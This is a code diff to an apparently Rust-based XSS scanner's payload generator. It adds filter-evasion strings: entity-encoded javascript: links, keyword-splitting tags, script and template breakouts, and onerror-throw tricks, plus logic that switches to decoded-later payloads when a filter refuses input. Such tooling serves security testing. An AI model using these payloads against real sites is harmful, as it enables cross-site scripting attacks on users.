@@ -26,7 +26,10 @@ const ELEMENTS: &[&str] = &[
     "<svg onload=alert(@)//",
     "<iframe srcdoc=\"&lt;svg onload=alert(@)&gt;\"></iframe>",
     "<a href=\"jav&#9;ascript:alert(@)\">x</a>",
-    "<a href=javas&#99;ript:prompt(@)>x</a>",
+    "<a href=javas&#99;ript:p&#114;ompt&#40;@&#41;>x</a>",
+    "<iframe srcdoc=\"&lt;svg &#111;nload=&#97;lert&#40;@&#41;&gt;\"></iframe>",
+    // Words that are taken out leave other words.
+    "<svg oscriptnload=alscriptert(@)>",
     "<form><button formaction=javascript:confirm(@)>x</button></form>",
     "<video><source onerror=confirm(@)></video>",
     "<svg><animate onbegin=confirm(@) attributeName=x dur=1s></svg>",
@@ -34,6 +37,7 @@ const ELEMENTS: &[&str] = &[
     "<body onpageshow=confirm(@)>",
     "<svg\nonload\n=\nconfirm(@)>",
     "<img src=x onerror=onerror=alert;throw/**/@>",
+    "</template></select><svg onload=alert(@)>",
     // What fits where little room is left.
     "<q oncut=alert(@)>",
 ];
@@ -64,12 +68,19 @@ pub(super) struct Survivors {
     pub(super) letters: String,
     /// Whether only the second of each does.
     pub(super) is_second: bool,
+    /// Whether nothing came back: what was tried was refused as a whole.
+    pub(super) is_refused: bool,
 }
 
 impl Survivors {
     /// All of them.
     pub(super) fn all() -> Self {
-        Self { letters: "<>\"'".to_owned(), is_second: false }
+        Self { letters: "<>\"'".to_owned(), ..Self::default() }
+    }
+
+    /// All of them may, in other forms.
+    pub(super) fn refused() -> Self {
+        Self { is_refused: true, ..Self::all() }
     }
 
     fn has(&self, letter: char) -> bool {
@@ -127,10 +138,20 @@ fn elements(prefix: &str, alive: &Survivors) -> Vec<String> {
 
 fn of(context: &Context, alive: &Survivors) -> Vec<String> {
     match context {
-        Context::Text => elements("", alive),
-        Context::Comment => {
-            [elements("-->", alive), elements("--!>", alive).into_iter().take(1).collect()].concat()
+        Context::Text => {
+            let mut list = elements("", alive);
+            if alive.is_refused {
+                // What is looked for may only come to be behind the filter.
+                let later = DECODED_LATER.iter().map(|payload| (*payload).to_owned());
+                list.splice(4.min(list.len())..4.min(list.len()), later);
+            }
+            list
         }
+        Context::Comment => ["-->", "--!>", "---->>"]
+            .iter()
+            .enumerate()
+            .flat_map(|(n, end)| elements(end, alive).into_iter().take(if n == 0 { usize::MAX } else { 1 }))
+            .collect(),
         Context::Declaration => elements(">", alive),
         Context::Raw(element) => {
             let mut list = elements(&format!("</{element}>"), alive);
@@ -141,6 +162,9 @@ fn of(context: &Context, alive: &Survivors) -> Vec<String> {
         Context::Script(place) => {
             let mut list = in_script(*place, alive, false);
             list.extend(elements("</script>", alive));
+            for end in ["</sCrIpT >", "</scr</script>ipt>"] {
+                list.extend(elements(end, alive).into_iter().take(1));
+            }
             list
         }
         Context::Tag => [
@@ -245,6 +269,7 @@ fn in_script(place: InScript, alive: &Survivors, in_attribute: bool) -> Vec<Stri
             "\\Q);alert(@);//",
             "Q);alert(@);//",
             "Q});alert(@);//",
+            "Q;onerror=alert;throw/**/@;//",
         ];
         let mut list: Vec<String> = Vec::new();
         // References in an attribute are read before its script is.
@@ -276,6 +301,7 @@ fn in_script(place: InScript, alive: &Survivors, in_attribute: bool) -> Vec<Stri
             "1};alert(@);//",
             "al\\u0065rt(@)",
             "x:alert(@),y",
+            "1;onerror=alert;throw/**/@;",
         ]),
         InScript::LineComment => strings(&["\nalert(@)//", "\ralert(@)//", "\u{2028}alert(@)//"]),
         InScript::BlockComment => strings(&["*/alert(@)/*", "*/;alert(@)/*", "*/-alert(@)/*"]),
@@ -296,7 +322,7 @@ mod tests {
         let value = Context::Attribute { quote: Some('"'), kind: Value::Plain };
         assert_eq!(of(&value, &all)[0], "\"><svg onload=alert(@)>");
         assert_eq!(
-            of(&value, &Survivors { letters: "\"".to_owned(), is_second: false })[0..2]
+            of(&value, &Survivors { letters: "\"".to_owned(), ..Survivors::default() })[0..2]
                 .iter()
                 .filter(|p| p.starts_with('"'))
                 .count(),
